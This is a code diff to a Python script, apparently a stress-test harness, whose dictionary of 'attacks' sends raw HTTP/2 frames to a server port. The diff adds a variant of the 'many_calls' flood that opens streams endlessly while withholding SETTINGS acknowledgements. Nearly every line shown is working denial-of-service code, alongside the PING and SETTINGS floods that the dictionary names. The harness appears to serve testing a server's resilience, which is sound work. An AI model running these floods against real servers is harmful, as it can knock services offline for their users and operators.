@@ -96,6 +96,7 @@ class Connection:
         self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.rest = b""
         self.window = {0: 65535}
+        self.acknowledges = True
         self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
 
     def send(self, data: bytes) -> bool:
@@ -131,7 +132,7 @@ class Connection:
                 self.window[stream] = self.window.get(stream, 65535) + int.from_bytes(
                     got[-1][3], "big"
                 )
-            if kind == SETTINGS and not flags & ACK:
+            if kind == SETTINGS and not flags & ACK and self.acknowledges:
                 self.send(frame(SETTINGS, ACK, 0))
             if kind == PING and not flags & ACK:
                 self.send(frame(PING, ACK, 0, got[-1][3]))
@@ -277,18 +278,18 @@ def large_messages(port: int) -> str:
     return f"{sum(sent) >> 20} MiB"
 
 
-def many_calls(port: int) -> str:
+def many_calls(port: int, acknowledges: bool = True) -> str:
     """Calls without end on one connection, none of which is ever completed."""
     connection = Connection(port)
+    connection.acknowledges = acknowledges
     drain(connection)
     headers, until, stream = block(INSPECT), time.monotonic() + SECONDS, 1
     while time.monotonic() < until:
-        if not connection.send(
-            b"".join(
-                frame(HEADERS, END_HEADERS, s, headers)
-                for s in range(stream, stream + 200, 2)
-            )
-        ):
+        batch = b"".join(
+            frame(HEADERS, END_HEADERS, s, headers)
+            for s in range(stream, stream + 200, 2)
+        )
+        if not connection.send(batch):
             return f"closed after {stream // 2} calls"
         stream += 200
     return f"{stream // 2} calls"
@@ -359,6 +360,7 @@ ATTACKS: dict[str, Callable[[int], str]] = {
     "endless_message": endless_message,
     "large_messages": large_messages,
     "many_calls": many_calls,
+    "many_calls_unacknowledged": functools.partial(many_calls, acknowledges=False),
     "pings": functools.partial(flood, kind=PING, payload=b"bayespfl"),
     "settings": functools.partial(flood, kind=SETTINGS, payload=b"\0\x04\0\0\xff\xff"),
     "unread_settings": unread_settings,
